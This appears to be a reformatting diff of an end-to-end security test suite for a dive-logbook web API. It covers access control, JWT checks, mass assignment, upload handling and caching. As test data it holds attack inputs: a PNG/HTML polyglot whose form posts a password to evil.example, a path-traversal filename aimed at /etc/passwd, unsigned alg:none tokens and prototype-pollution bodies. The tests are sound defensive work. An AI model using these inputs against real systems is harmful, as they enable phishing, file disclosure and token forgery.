@@ -2,20 +2,9 @@ import { randomUUID } from 'node:crypto';
 import type pg from 'pg';
 import type { Test } from 'supertest';
 import { JwtService, type JwtSignOptions } from '@nestjs/jwt';
-import {
-  CacheKeys,
-  REDIS_CLIENT,
-  type RedisClient,
-  ViewCache,
-} from '@app/cache';
+import { CacheKeys, REDIS_CLIENT, type RedisClient, ViewCache } from '@app/cache';
 import { LocalDiskStore, StorageService } from '@app/storage';
-import {
-  type Diver,
-  signupAndSignin,
-  startApi,
-  type TestApi,
-  uniqueEmail,
-} from './support/api.js';
+import { type Diver, signupAndSignin, startApi, type TestApi, uniqueEmail } from './support/api.js';
 import { PNG, createLogbook, logbookFields } from './support/fixtures.js';
 import { connectDb } from './support/likes-model.js';
 
@@ -46,25 +35,15 @@ const CLASSIFY = '/api/photo/classify/';
 const MAX_IP_FAILURES = 8;
 const LOCAL_IPS = ['127.0.0.1', '::ffff:127.0.0.1'];
 /** PNG magic bytes, then a page: a valid image by content, dangerous if ever served as HTML. */
-const POLYGLOT = Buffer.concat([
-  PNG,
-  Buffer.from(
-    '<html><form action="https://evil.example/"><input name="pw"></form>',
-  ),
-]);
+const POLYGLOT = Buffer.concat([PNG, Buffer.from('<html><form action="https://evil.example/"><input name="pw"></form>')]);
 /** Enough of a WebP for detection by content (RIFF….WEBP). */
-const WEBP = Buffer.concat([
-  Buffer.from('RIFF\x1a\0\0\0WEBPVP8 '),
-  Buffer.alloc(14),
-]);
+const WEBP = Buffer.concat([Buffer.from('RIFF\x1a\0\0\0WEBPVP8 '), Buffer.alloc(14)]);
 
 const bearer = (d: { access: string }): Headers => ({
   Authorization: `Bearer ${d.access}`,
 });
-const b64url = (v: object) =>
-  Buffer.from(JSON.stringify(v)).toString('base64url');
-const claimsOf = (token: string) =>
-  JSON.parse(Buffer.from(token.split('.')[1], 'base64url').toString());
+const b64url = (v: object) => Buffer.from(JSON.stringify(v)).toString('base64url');
+const claimsOf = (token: string) => JSON.parse(Buffer.from(token.split('.')[1], 'base64url').toString());
 const idsOf = (rows: Array<{ id: number }>) => rows.map((r) => r.id).sort();
 const path = (url: string) => new URL(url).pathname;
 
@@ -82,10 +61,7 @@ describe('security (e2e)', () => {
       SIGNIN_MAX_FAILURES_IP: String(MAX_IP_FAILURES),
     });
     db = await connectDb();
-    [alice, bob] = await Promise.all([
-      signupAndSignin(api, 'alice'),
-      signupAndSignin(api, 'bob'),
-    ]);
+    [alice, bob] = await Promise.all([signupAndSignin(api, 'alice'), signupAndSignin(api, 'bob')]);
   });
   afterAll(async () => {
     await db?.end();
@@ -104,37 +80,22 @@ describe('security (e2e)', () => {
     (method: Method, url: string, fields: object, file?: string): Send =>
     (h = {}) => {
       let req = api.http()[method](url).set(h);
-      for (const [k, v] of Object.entries(fields))
-        req = req.field(k, String(v));
+      for (const [k, v] of Object.entries(fields)) req = req.field(k, String(v));
       return file ? req.attach(file, PNG, `${file}.png`) : req;
     };
 
   async function presign(d: Diver, filename = 'fish.png') {
     const query = `filename=${encodeURIComponent(filename)}&filetype=image/png`;
-    const res = await api
-      .http()
-      .get(`${PHOTOS}generate_presigned_url/?${query}`)
-      .set(bearer(d))
-      .expect(200);
+    const res = await api.http().get(`${PHOTOS}generate_presigned_url/?${query}`).set(bearer(d)).expect(200);
     const url = new URL(res.body.uploadUrl);
     return {
       path: `${url.pathname}${url.search}`,
       fileUrl: res.body.fileUrl as string,
     };
   }
-  const putFile = (uploadPath: string, bytes = PNG) =>
-    api.http().put(uploadPath).set('Content-Type', 'image/png').send(bytes);
-  const createPhoto = async (
-    d: Diver,
-  ): Promise<{ id: number; image_url: string }> =>
-    (
-      await multipart(
-        'post',
-        PHOTOS,
-        { title: 'fish' },
-        'image',
-      )(bearer(d)).expect(201)
-    ).body;
+  const putFile = (uploadPath: string, bytes = PNG) => api.http().put(uploadPath).set('Content-Type', 'image/png').send(bytes);
+  const createPhoto = async (d: Diver): Promise<{ id: number; image_url: string }> =>
+    (await multipart('post', PHOTOS, { title: 'fish' }, 'image')(bearer(d)).expect(201)).body;
 
   describe('authorization matrix', () => {
     let logbook: number;
@@ -146,20 +107,11 @@ describe('security (e2e)', () => {
     let image: string;
 
     beforeAll(async () => {
-      const created = await multipart(
-        'post',
-        LOGBOOKS,
-        logbookFields(),
-        'dive_image',
-      )(bearer(alice)).expect(201);
+      const created = await multipart('post', LOGBOOKS, logbookFields(), 'dive_image')(bearer(alice)).expect(201);
       logbook = created.body.id;
       image = path(created.body.dive_image);
       bobLogbook = await createLogbook(api, bob.access);
-      comment = (
-        await call('post', `${LOGBOOKS}${logbook}/comments`, { text: 'mine' })(
-          bearer(alice),
-        ).expect(201)
-      ).body.id;
+      comment = (await call('post', `${LOGBOOKS}${logbook}/comments`, { text: 'mine' })(bearer(alice)).expect(201)).body.id;
       photo = await createPhoto(alice);
       bobPhoto = (await createPhoto(bob)).id;
       const upload = await presign(alice);
@@ -183,10 +135,7 @@ describe('security (e2e)', () => {
     it("gives another user and an anonymous caller 0 successes on a user's logbook, comment, photo, upload and token", async () => {
       const before = await stored();
       // Bob's own signed upload URL, re-pointed at Alice's folder: the signature covers the key.
-      const repointed = (await presign(bob)).path.replace(
-        `/${bob.id}/`,
-        `/${alice.id}/`,
-      );
+      const repointed = (await presign(bob)).path.replace(`/${bob.id}/`, `/${alice.id}/`);
       const L = `${LOGBOOKS}${logbook}/`;
       const P = `${PHOTOS}${photo.id}/`;
       const taken = logbookFields({ dive_title: 'taken' });
@@ -198,92 +147,29 @@ describe('security (e2e)', () => {
         ['PUT logbook (JSON)', 401, 403, call('put', L, taken)],
         ['PUT logbook (multipart)', 401, 403, multipart('put', L, taken)],
         ['PATCH logbook (JSON)', 401, 403, call('patch', L, { feeling: 'x' })],
-        [
-          'PATCH logbook (new image)',
-          401,
-          403,
-          multipart('patch', L, { feeling: 'x' }, 'dive_image'),
-        ],
-        [
-          'PATCH logbook (no image)',
-          401,
-          403,
-          call('patch', L, { dive_image: null }),
-        ],
+        ['PATCH logbook (new image)', 401, 403, multipart('patch', L, { feeling: 'x' }, 'dive_image')],
+        ['PATCH logbook (no image)', 401, 403, call('patch', L, { dive_image: null })],
         ['DELETE logbook', 401, 403, call('delete', L)],
         ['GET like', 401, null, call('get', `${L}like/`)],
         ['POST like', 401, null, call('post', `${L}like/`)],
         ['DELETE like', 401, null, call('delete', `${L}like/`)],
-        [
-          'POST comment',
-          401,
-          null,
-          call('post', `${L}comments`, { text: 'x' }),
-        ],
-        [
-          'DELETE comment',
-          401,
-          403,
-          call('delete', `${L}uncomment/${comment}`),
-        ],
-        [
-          'DELETE comment via own logbook',
-          401,
-          404,
-          call('delete', `${LOGBOOKS}${bobLogbook}/uncomment/${comment}`),
-        ],
+        ['POST comment', 401, null, call('post', `${L}comments`, { text: 'x' })],
+        ['DELETE comment', 401, 403, call('delete', `${L}uncomment/${comment}`)],
+        ['DELETE comment via own logbook', 401, 404, call('delete', `${LOGBOOKS}${bobLogbook}/uncomment/${comment}`)],
         ['GET photo', 401, 404, call('get', P)],
         ['HEAD photo', 401, 404, call('head', P)],
         ['PUT photo', 401, 404, call('put', P, { title: 'x' })],
         ['PATCH photo', 401, 404, call('patch', P, { title: 'x' })],
         ['DELETE photo', 401, 404, call('delete', P)],
         ['POST classify', 401, 404, call('post', `${P}classify/`)],
-        [
-          'POST batch classify',
-          401,
-          404,
-          call('post', CLASSIFY, { photo_ids: [photo.id] }),
-        ],
-        [
-          'POST batch classify (+ own)',
-          401,
-          404,
-          call('post', CLASSIFY, { photo_ids: [bobPhoto, photo.id] }),
-        ],
+        ['POST batch classify', 401, 404, call('post', CLASSIFY, { photo_ids: [photo.id] })],
+        ['POST batch classify (+ own)', 401, 404, call('post', CLASSIFY, { photo_ids: [bobPhoto, photo.id] })],
         ['GET photo list', 401, null, call('get', PHOTOS)],
-        [
-          'POST photo from their upload',
-          401,
-          400,
-          call('post', PHOTOS, { title: 'x', image_url: aliceUpload }),
-        ],
-        [
-          'POST photo from their photo file',
-          401,
-          400,
-          call('post', PHOTOS, { title: 'x', image_url: photo.image_url }),
-        ],
-        [
-          'GET presigned URL',
-          401,
-          null,
-          call(
-            'get',
-            `${PHOTOS}generate_presigned_url/?filename=a.png&filetype=image/png`,
-          ),
-        ],
-        [
-          'PUT upload re-pointed at their folder',
-          403,
-          403,
-          (h = {}) => putFile(repointed).set(h),
-        ],
-        [
-          'POST logout with their token',
-          401,
-          403,
-          call('post', LOGOUT, { refresh: alice.refresh }),
-        ],
+        ['POST photo from their upload', 401, 400, call('post', PHOTOS, { title: 'x', image_url: aliceUpload })],
+        ['POST photo from their photo file', 401, 400, call('post', PHOTOS, { title: 'x', image_url: photo.image_url })],
+        ['GET presigned URL', 401, null, call('get', `${PHOTOS}generate_presigned_url/?filename=a.png&filetype=image/png`)],
+        ['PUT upload re-pointed at their folder', 403, 403, (h = {}) => putFile(repointed).set(h)],
+        ['POST logout with their token', 401, 403, call('post', LOGOUT, { refresh: alice.refresh })],
         ['GET me', 401, null, call('get', ME)],
       ];
 
@@ -301,8 +187,7 @@ describe('security (e2e)', () => {
             res: await send(bearer(bob)),
           });
       }
-      const count = (status: number) =>
-        outcomes.filter((o) => o.res.status === status).length;
+      const count = (status: number) => outcomes.filter((o) => o.res.status === status).length;
       const successes = outcomes.filter((o) => o.res.status < 300).length;
       console.log(
         `authorization matrix: ${outcomes.length} requests by another user/anonymous on another user's logbook, comment, ` +
@@ -319,42 +204,22 @@ describe('security (e2e)', () => {
       ).toEqual([]);
       expect(successes).toBe(0);
       // Every refusal says why (a HEAD has no body), and every 401 names the scheme to use.
-      const silent = outcomes.filter(
-        (o) =>
-          !o.what.includes('HEAD') &&
-          !o.res.body.detail &&
-          o.res.status !== 400,
-      );
+      const silent = outcomes.filter((o) => !o.what.includes('HEAD') && !o.res.body.detail && o.res.status !== 400);
       expect(silent.map((o) => o.what)).toEqual([]);
-      const unnamed = outcomes.filter(
-        (o) =>
-          o.res.status === 401 &&
-          o.res.headers['www-authenticate'] !== 'Bearer realm="api"',
-      );
+      const unnamed = outcomes.filter((o) => o.res.status === 401 && o.res.headers['www-authenticate'] !== 'Bearer realm="api"');
       expect(unnamed.map((o) => o.what)).toEqual([]);
 
       // Another user's photo is indistinguishable from one that does not exist.
-      const missing = await call(
-        'get',
-        `${PHOTOS}999999999999/`,
-      )(bearer(bob)).expect(404);
-      expect(
-        outcomes.find((o) => o.what === 'other user: GET photo')?.res.body,
-      ).toEqual(missing.body);
+      const missing = await call('get', `${PHOTOS}999999999999/`)(bearer(bob)).expect(404);
+      expect(outcomes.find((o) => o.what === 'other user: GET photo')?.res.body).toEqual(missing.body);
 
       // Nothing moved: the rows, the like table, the photos' status, the token, the stored files.
       expect(await stored()).toEqual(before);
-      for (const file of [image, path(photo.image_url), path(aliceUpload)])
-        await api.http().get(file).expect(200);
+      for (const file of [image, path(photo.image_url), path(aliceUpload)]) await api.http().get(file).expect(200);
 
       // The refusals were about whose it is: Bob may remove a comment of his own on Alice's dive.
-      const own = await call('post', `${L}comments`, { text: 'his' })(
-        bearer(bob),
-      ).expect(201);
-      await call(
-        'delete',
-        `${L}uncomment/${own.body.id}`,
-      )(bearer(bob)).expect(204);
+      const own = await call('post', `${L}comments`, { text: 'his' })(bearer(bob)).expect(201);
+      await call('delete', `${L}uncomment/${own.body.id}`)(bearer(bob)).expect(204);
     });
 
     it('leaves public what the design makes public (logbooks, comments, likes, image files)', async () => {
@@ -368,13 +233,10 @@ describe('security (e2e)', () => {
         path(photo.image_url),
       ];
       for (const url of reads) {
-        for (const h of [{}, bearer(bob)])
-          expect((await api.http().get(url).set(h)).status, url).toBe(200);
+        for (const h of [{}, bearer(bob)]) expect((await api.http().get(url).set(h)).status, url).toBe(200);
       }
       await call('get', `${LOGBOOKS}${logbook}/like/`)(bearer(bob)).expect(200);
-      console.log(
-        `authorization matrix: ${reads.length * 2 + 1} public reads allowed by design (logbooks, comments, likes, media)`,
-      );
+      console.log(`authorization matrix: ${reads.length * 2 + 1} public reads allowed by design (logbooks, comments, likes, media)`);
     });
   });
 
@@ -399,21 +261,14 @@ describe('security (e2e)', () => {
       ...over,
     });
     /** Signed with the app's own key, issuer and audience unless `options` says otherwise. */
-    const sign = (claims: object, options: JwtSignOptions = {}) =>
-      jwt.sign(claims, { expiresIn: 300, ...options });
-    const unsigned = (token: string) =>
-      `${b64url({ alg: 'none', typ: 'JWT' })}.${b64url(claimsOf(token))}.`;
+    const sign = (claims: object, options: JwtSignOptions = {}) => jwt.sign(claims, { expiresIn: 300, ...options });
+    const unsigned = (token: string) => `${b64url({ alg: 'none', typ: 'JWT' })}.${b64url(claimsOf(token))}.`;
 
     beforeAll(async () => {
       jwt = api.app.get(JwtService);
       L = `${LOGBOOKS}${await createLogbook(api, alice.access)}/`;
       // Warm cached views, so bad tokens meet the cache-hit path as well as Nest's guard.
-      for (const [url, h] of [
-        [L],
-        [LOGBOOKS],
-        [MINE, bearer(alice)],
-        [PHOTOS, bearer(alice)],
-      ] as const) {
+      for (const [url, h] of [[L], [LOGBOOKS], [MINE, bearer(alice)], [PHOTOS, bearer(alice)]] as const) {
         for (const _ of [1, 2]) await call('get', url)(h).expect(200);
       }
       // Deleted before any authenticated request, so no cached copy of the user can answer for it.
@@ -431,10 +286,7 @@ describe('security (e2e)', () => {
         ['wrong audience', sign(access(), { audience: 'another-api' })],
         ['a refresh token', alice.refresh],
         ["a deleted user's", gone.access],
-        [
-          'a user that never existed',
-          sign(access({ user_id: 999_999_999_999 })),
-        ],
+        ['a user that never existed', sign(access({ user_id: 999_999_999_999 }))],
         ['not a JWT', 'not.a.jwt'],
       ];
       const routes: Array<[string, Send]> = [
@@ -458,10 +310,7 @@ describe('security (e2e)', () => {
             typeof res.body.detail === 'string' &&
             ['token_not_valid', 'user_not_found'].includes(res.body.code) &&
             res.headers['www-authenticate'] === 'Bearer realm="api"';
-          if (!refused)
-            wrong.push(
-              `${kind} on ${route}: ${res.status} ${JSON.stringify(res.body)}`,
-            );
+          if (!refused) wrong.push(`${kind} on ${route}: ${res.status} ${JSON.stringify(res.body)}`);
         }
       }
       const total = tokens.length * routes.length;
@@ -474,20 +323,14 @@ describe('security (e2e)', () => {
         code: 'user_not_found',
       });
       // Each case fails for its flaw alone: the same claims, well signed, are accepted.
-      await call(
-        'get',
-        ME,
-      )({ Authorization: `Bearer ${sign(access())}` }).expect(200);
+      await call('get', ME)({ Authorization: `Bearer ${sign(access())}` }).expect(200);
     });
 
     it('refuses at token/refresh/ anything but a live refresh token it issued itself', async () => {
       const cases: Array<[string, string]> = [
         ['alg:none', unsigned(alice.refresh)],
         ['signed with another key', sign(refresh(), { secret: OTHER_KEY })],
-        [
-          'expired',
-          jwt.sign(refresh({ iat: now() - 7200, exp: now() - 3600 })),
-        ],
+        ['expired', jwt.sign(refresh({ iat: now() - 7200, exp: now() - 3600 }))],
         ['well signed but never issued', sign(refresh())],
         ['an access token', alice.access],
         ["a deleted user's", gone.refresh],
@@ -503,15 +346,12 @@ describe('security (e2e)', () => {
           },
         });
       }
-      console.log(
-        `JWT: ${cases.length} bad refresh tokens → ${cases.length} × 401`,
-      );
+      console.log(`JWT: ${cases.length} bad refresh tokens → ${cases.length} × 401`);
     });
 
     it('with rotation on, a token the thief used first still dies when its owner comes back, and only its family', async () => {
       const dan = await signupAndSignin(api, 'dan');
-      const exchange = (token: string) =>
-        call('post', REFRESH, { refresh: token })();
+      const exchange = (token: string) => call('post', REFRESH, { refresh: token })();
       const signin = () =>
         call('post', SIGNIN, {
           email: dan.email,
@@ -535,10 +375,7 @@ describe('security (e2e)', () => {
 
       // Two refreshes racing with one token: one rotation, never two live successors.
       const racer = await signin();
-      const race = await Promise.all([
-        exchange(racer.body.refresh),
-        exchange(racer.body.refresh),
-      ]);
+      const race = await Promise.all([exchange(racer.body.refresh), exchange(racer.body.refresh)]);
       expect(race.map((r) => r.status).sort()).toEqual([200, 401]);
       console.log(
         'JWT: refresh rotation: a replay after theft revoked all 3 tokens of its family, 2 other families alive; 1 of 2 racing refreshes won',
@@ -579,11 +416,7 @@ describe('security (e2e)', () => {
       const { refresh } = alice;
       // [DTO, the field it must refuse, request]; all sent with Alice's token, which public routes ignore.
       const cases: Array<[string, string, Send]> = [
-        [
-          'signup',
-          'is_superuser',
-          call('post', SIGNUP, { ...signup, is_superuser: true }),
-        ],
+        ['signup', 'is_superuser', call('post', SIGNUP, { ...signup, is_superuser: true })],
         ['signup', 'id', call('post', SIGNUP, { ...signup, id: 1 })],
         [
           'signin',
@@ -594,52 +427,16 @@ describe('security (e2e)', () => {
             user_id: bob.id,
           }),
         ],
-        [
-          'token refresh',
-          'user_id',
-          call('post', REFRESH, { refresh, user_id: bob.id }),
-        ],
-        [
-          'logout',
-          'all_sessions',
-          call('post', LOGOUT, { refresh, all_sessions: true }),
-        ],
-        [
-          'logbook create (JSON)',
-          'likes_count',
-          call('post', LOGBOOKS, logbookFields({ likes_count: 99 })),
-        ],
-        [
-          'logbook create (multipart)',
-          'user',
-          multipart('post', LOGBOOKS, logbookFields({ user: bob.id })),
-        ],
+        ['token refresh', 'user_id', call('post', REFRESH, { refresh, user_id: bob.id })],
+        ['logout', 'all_sessions', call('post', LOGOUT, { refresh, all_sessions: true })],
+        ['logbook create (JSON)', 'likes_count', call('post', LOGBOOKS, logbookFields({ likes_count: 99 }))],
+        ['logbook create (multipart)', 'user', multipart('post', LOGBOOKS, logbookFields({ user: bob.id }))],
         ['logbook PUT (JSON)', 'id', call('put', L, logbookFields({ id: 1 }))],
-        [
-          'logbook PUT (multipart)',
-          'likes',
-          multipart('put', L, logbookFields({ likes: bob.id })),
-        ],
-        [
-          'logbook PATCH (JSON)',
-          'liked_by_current_user',
-          call('patch', L, { liked_by_current_user: true }),
-        ],
-        [
-          'logbook PATCH (JSON)',
-          'user',
-          call('patch', L, { feeling: 'x', user: bob.id }),
-        ],
-        [
-          'logbook PATCH (multipart)',
-          'user_id',
-          multipart('patch', L, { feeling: 'x', user_id: bob.id }),
-        ],
-        [
-          'comment',
-          'author_id',
-          call('post', `${L}comments`, { text: 'hi', author_id: bob.id }),
-        ],
+        ['logbook PUT (multipart)', 'likes', multipart('put', L, logbookFields({ likes: bob.id }))],
+        ['logbook PATCH (JSON)', 'liked_by_current_user', call('patch', L, { liked_by_current_user: true })],
+        ['logbook PATCH (JSON)', 'user', call('patch', L, { feeling: 'x', user: bob.id })],
+        ['logbook PATCH (multipart)', 'user_id', multipart('patch', L, { feeling: 'x', user_id: bob.id })],
+        ['comment', 'author_id', call('post', `${L}comments`, { text: 'hi', author_id: bob.id })],
         [
           'comment',
           'created_at',
@@ -657,72 +454,29 @@ describe('security (e2e)', () => {
             status: 'done',
           }),
         ],
-        [
-          'photo create (multipart)',
-          'classified_as',
-          multipart(
-            'post',
-            PHOTOS,
-            { title: 't', classified_as: 'Shark' },
-            'image',
-          ),
-        ],
-        [
-          'photo PUT',
-          'user_id',
-          call('put', P, { title: 't', user_id: bob.id }),
-        ],
-        [
-          'photo PATCH',
-          'status',
-          call('patch', P, { title: 't', status: 'done' }),
-        ],
-        [
-          'photo PATCH',
-          'fishial_result',
-          call('patch', P, { title: 't', fishial_result: { results: [] } }),
-        ],
-        [
-          'batch classify',
-          'user_id',
-          call('post', CLASSIFY, { photo_ids: [photo.id], user_id: bob.id }),
-        ],
+        ['photo create (multipart)', 'classified_as', multipart('post', PHOTOS, { title: 't', classified_as: 'Shark' }, 'image')],
+        ['photo PUT', 'user_id', call('put', P, { title: 't', user_id: bob.id })],
+        ['photo PATCH', 'status', call('patch', P, { title: 't', status: 'done' })],
+        ['photo PATCH', 'fishial_result', call('patch', P, { title: 't', fishial_result: { results: [] } })],
+        ['batch classify', 'user_id', call('post', CLASSIFY, { photo_ids: [photo.id], user_id: bob.id })],
       ];
       const wrong: string[] = [];
       for (const [dto, field, send] of cases) {
         const res = await send(bearer(alice));
-        if (res.status !== 400 || !res.body[field]?.length)
-          wrong.push(
-            `${dto} + ${field}: ${res.status} ${JSON.stringify(res.body)}`,
-          );
+        if (res.status !== 400 || !res.body[field]?.length) wrong.push(`${dto} + ${field}: ${res.status} ${JSON.stringify(res.body)}`);
       }
       // Prototype pollution, in JSON and in multipart: refused, never a 500 nor a changed row.
       const raw = (method: Method, url: string, body: string) =>
-        api
-          .http()
-          [method](url)
-          .set(bearer(alice))
-          .set('Content-Type', 'application/json')
-          .send(body);
+        api.http()[method](url).set(bearer(alice)).set('Content-Type', 'application/json').send(body);
       const pollution = [
         raw('patch', P, '{"title":"t","__proto__":{"status":"done"}}'),
-        raw(
-          'patch',
-          L,
-          '{"feeling":"x","constructor":{"prototype":{"user":1}}}',
-        ),
-        multipart('patch', L, { feeling: 'x', ['__proto__']: 'polluted' })(
-          bearer(alice),
-        ),
+        raw('patch', L, '{"feeling":"x","constructor":{"prototype":{"user":1}}}'),
+        multipart('patch', L, { feeling: 'x', ['__proto__']: 'polluted' })(bearer(alice)),
       ];
       for (const res of await Promise.all(pollution)) {
-        if (res.status !== 400)
-          wrong.push(
-            `prototype pollution: ${res.status} ${JSON.stringify(res.body)}`,
-          );
+        if (res.status !== 400) wrong.push(`prototype pollution: ${res.status} ${JSON.stringify(res.body)}`);
       }
-      const dtos = new Set(cases.map(([dto]) => dto.replace(/ \(.*\)$/, '')))
-        .size;
+      const dtos = new Set(cases.map(([dto]) => dto.replace(/ \(.*\)$/, ''))).size;
       const tried = cases.length + pollution.length;
       console.log(
         `mass assignment: ${cases.length} writes with an unknown or server-owned field over ${dtos} DTOs (JSON and multipart) + ` +
@@ -732,21 +486,13 @@ describe('security (e2e)', () => {
       expect(await rows()).toEqual(before);
 
       // Query parameters are no side door either: ignored, and the server's values stand.
-      const viaQuery = await call(
-        'post',
-        `${LOGBOOKS}?user=${bob.id}&likes_count=5&id=1`,
-        logbookFields(),
-      )(bearer(alice)).expect(201);
+      const viaQuery = await call('post', `${LOGBOOKS}?user=${bob.id}&likes_count=5&id=1`, logbookFields())(bearer(alice)).expect(201);
       expect(viaQuery.body).toMatchObject({
         user: alice.id,
         likes_count: 0,
         likes: [],
       });
-      const renamed = await call(
-        'patch',
-        `${P}?status=done&user_id=${bob.id}`,
-        { title: 'renamed' },
-      )(bearer(alice)).expect(200);
+      const renamed = await call('patch', `${P}?status=done&user_id=${bob.id}`, { title: 'renamed' })(bearer(alice)).expect(200);
       expect(renamed.body).toMatchObject({
         title: 'renamed',
         status: null,
@@ -763,33 +509,20 @@ describe('security (e2e)', () => {
   describe('uploads', () => {
     it('stores and serves a presigned upload as the signed type, whatever the client called the file', async () => {
       const upload = await presign(alice, 'invoice.html');
-      expect(path(upload.fileUrl)).toMatch(
-        new RegExp(`^/media/uploads/${alice.id}/[0-9a-f]{32}_invoice\\.png$`),
-      );
+      expect(path(upload.fileUrl)).toMatch(new RegExp(`^/media/uploads/${alice.id}/[0-9a-f]{32}_invoice\\.png$`));
       await putFile(upload.path, POLYGLOT).expect(200);
-      const served = await api
-        .http()
-        .get(path(upload.fileUrl))
-        .buffer(true)
-        .expect(200);
+      const served = await api.http().get(path(upload.fileUrl)).buffer(true).expect(200);
       expect(served.headers['content-type']).toBe('image/png');
       expect(served.headers['x-content-type-options']).toBe('nosniff');
       expect(served.headers['content-security-policy']).toContain('sandbox');
     });
 
     it("keeps a file name from climbing out of the caller's upload folder", async () => {
-      const upload = await presign(
-        alice,
-        `../../${bob.id}/../../../etc/passwd.png`,
-      );
+      const upload = await presign(alice, `../../${bob.id}/../../../etc/passwd.png`);
       // One segment of safe characters in the caller's folder ("a_.._b" is a name, not a step up).
-      expect(upload.path).toMatch(
-        new RegExp(`^/api/uploads/${alice.id}/[0-9a-f]{32}_[A-Za-z0-9_.-]+\\?`),
-      );
+      expect(upload.path).toMatch(new RegExp(`^/api/uploads/${alice.id}/[0-9a-f]{32}_[A-Za-z0-9_.-]+\\?`));
       await putFile(upload.path).expect(200);
-      expect(path(upload.fileUrl)).toMatch(
-        new RegExp(`^/media/uploads/${alice.id}/[^/]+$`),
-      );
+      expect(path(upload.fileUrl)).toMatch(new RegExp(`^/media/uploads/${alice.id}/[^/]+$`));
       await api.http().get(path(upload.fileUrl)).expect(200);
     });
 
@@ -809,58 +542,25 @@ describe('security (e2e)', () => {
 
     it('takes only what Fishial reads as a photo, one file per field, within the size limit; nothing stored otherwise', async () => {
       const count = async (table: 'photos' | 'logbooks') =>
-        Number(
-          (
-            await db.query(`SELECT count(*) FROM ${table} WHERE user_id = $1`, [
-              alice.id,
-            ])
-          ).rows[0].count,
-        );
+        Number((await db.query(`SELECT count(*) FROM ${table} WHERE user_id = $1`, [alice.id])).rows[0].count);
       const before = {
         photos: await count('photos'),
         logbooks: await count('logbooks'),
       };
-      const photo = () =>
-        api.http().post(PHOTOS).set(bearer(alice)).field('title', 't');
+      const photo = () => api.http().post(PHOTOS).set(bearer(alice)).field('title', 't');
       // WebP is a fine dive image but not a Fishial type.
       const webp = await photo().attach('image', WEBP, 'fish.png');
-      const twice = await photo()
-        .attach('image', PNG, 'a.png')
-        .attach('image', PNG, 'b.png');
-      const big = await photo().attach(
-        'image',
-        Buffer.concat([PNG, Buffer.alloc(8_000)]),
-        'big.png',
-      );
-      const doubled = await multipart(
-        'post',
-        LOGBOOKS,
-        logbookFields(),
-        'dive_image',
-      )(bearer(alice)).attach('dive_image', PNG, 'b.png');
-      expect([webp, twice, big, doubled].map((r) => r.status)).toEqual([
-        400, 400, 413, 400,
-      ]);
-      expect(
-        [
-          webp.body.image,
-          twice.body.image,
-          big.body.detail,
-          doubled.body.dive_image,
-        ].every((m) => m?.length > 0),
-      ).toBe(true);
+      const twice = await photo().attach('image', PNG, 'a.png').attach('image', PNG, 'b.png');
+      const big = await photo().attach('image', Buffer.concat([PNG, Buffer.alloc(8_000)]), 'big.png');
+      const doubled = await multipart('post', LOGBOOKS, logbookFields(), 'dive_image')(bearer(alice)).attach('dive_image', PNG, 'b.png');
+      expect([webp, twice, big, doubled].map((r) => r.status)).toEqual([400, 400, 413, 400]);
+      expect([webp.body.image, twice.body.image, big.body.detail, doubled.body.dive_image].every((m) => m?.length > 0)).toBe(true);
       expect({
         photos: await count('photos'),
         logbooks: await count('logbooks'),
       }).toEqual(before);
       // The same WebP is a valid dive image: the photo refusal above was about the type alone.
-      await multipart(
-        'post',
-        LOGBOOKS,
-        logbookFields(),
-      )(bearer(alice))
-        .attach('dive_image', WEBP, 'dive.webp')
-        .expect(201);
+      await multipart('post', LOGBOOKS, logbookFields())(bearer(alice)).attach('dive_image', WEBP, 'dive.webp').expect(201);
       console.log(
         'uploads: 7 misnamed, traversing, stale, off-type, doubled or oversize uploads refused or neutralised, 0 stored by a refusal',
       );
@@ -869,35 +569,18 @@ describe('security (e2e)', () => {
 
   describe('per-user cache entries', () => {
     it('never serves one user what another sees, on a miss, on a hit, and under concurrent misses', async () => {
-      const [carol, dan] = await Promise.all([
-        signupAndSignin(api, 'carol'),
-        signupAndSignin(api, 'dan'),
-      ]);
+      const [carol, dan] = await Promise.all([signupAndSignin(api, 'carol'), signupAndSignin(api, 'dan')]);
       // Far in the future, so it heads the feed whatever else this run's database holds.
       const shared = await createLogbook(api, carol.access, {
         dive_date: '2100-01-01',
       });
-      const carolOwn = [
-        shared,
-        await createLogbook(api, carol.access, { dive_date: '2020-01-01' }),
-      ].sort();
-      const danOwn = [
-        await createLogbook(api, dan.access, { dive_date: '2020-01-02' }),
-      ];
-      const carolPhotos = [
-        (await createPhoto(carol)).id,
-        (await createPhoto(carol)).id,
-      ].sort();
+      const carolOwn = [shared, await createLogbook(api, carol.access, { dive_date: '2020-01-01' })].sort();
+      const danOwn = [await createLogbook(api, dan.access, { dive_date: '2020-01-02' })];
+      const carolPhotos = [(await createPhoto(carol)).id, (await createPhoto(carol)).id].sort();
       const danPhotos = [(await createPhoto(dan)).id];
       // Dan likes Carol's dive, written as the consumer would: commit, then bump the views generation.
-      await db.query(
-        'INSERT INTO likes (logbook_id, user_id, liked, version) VALUES ($1, $2, true, 1)',
-        [shared, dan.id],
-      );
-      await db.query(
-        'UPDATE logbooks SET likes_count = likes_count + 1 WHERE id = $1',
-        [shared],
-      );
+      await db.query('INSERT INTO likes (logbook_id, user_id, liked, version) VALUES ($1, $2, true, 1)', [shared, dan.id]);
+      await db.query('UPDATE logbooks SET likes_count = likes_count + 1 WHERE id = $1', [shared]);
       await api.app.get(ViewCache).bump('logbooks');
 
       const viewers: Array<[string, Headers, number]> = [
@@ -908,25 +591,11 @@ describe('security (e2e)', () => {
       const liked = (viewer: number) => ({
         liked_by_current_user: viewer === dan.id,
       });
-      const find = (rows: Array<{ id: number }>) =>
-        rows.find((r) => r.id === shared);
+      const find = (rows: Array<{ id: number }>) => rows.find((r) => r.id === shared);
       // [view, URL, private (no anonymous), what the viewer with this id must see].
-      const views: Array<
-        [string, string, boolean, (viewer: number, res: Res) => void]
-      > = [
-        [
-          'logbook detail',
-          `${LOGBOOKS}${shared}/`,
-          false,
-          (v, res) =>
-            expect(res.body).toMatchObject({ likes: [dan.id], ...liked(v) }),
-        ],
-        [
-          'logbook feed',
-          `${LOGBOOKS}?page_size=100`,
-          false,
-          (v, res) => expect(find(res.body.results)).toMatchObject(liked(v)),
-        ],
+      const views: Array<[string, string, boolean, (viewer: number, res: Res) => void]> = [
+        ['logbook detail', `${LOGBOOKS}${shared}/`, false, (v, res) => expect(res.body).toMatchObject({ likes: [dan.id], ...liked(v) })],
+        ['logbook feed', `${LOGBOOKS}?page_size=100`, false, (v, res) => expect(find(res.body.results)).toMatchObject(liked(v))],
         [
           'friend_logbooks',
           `${LOGBOOKS}${carol.id}/friend_logbooks/`,
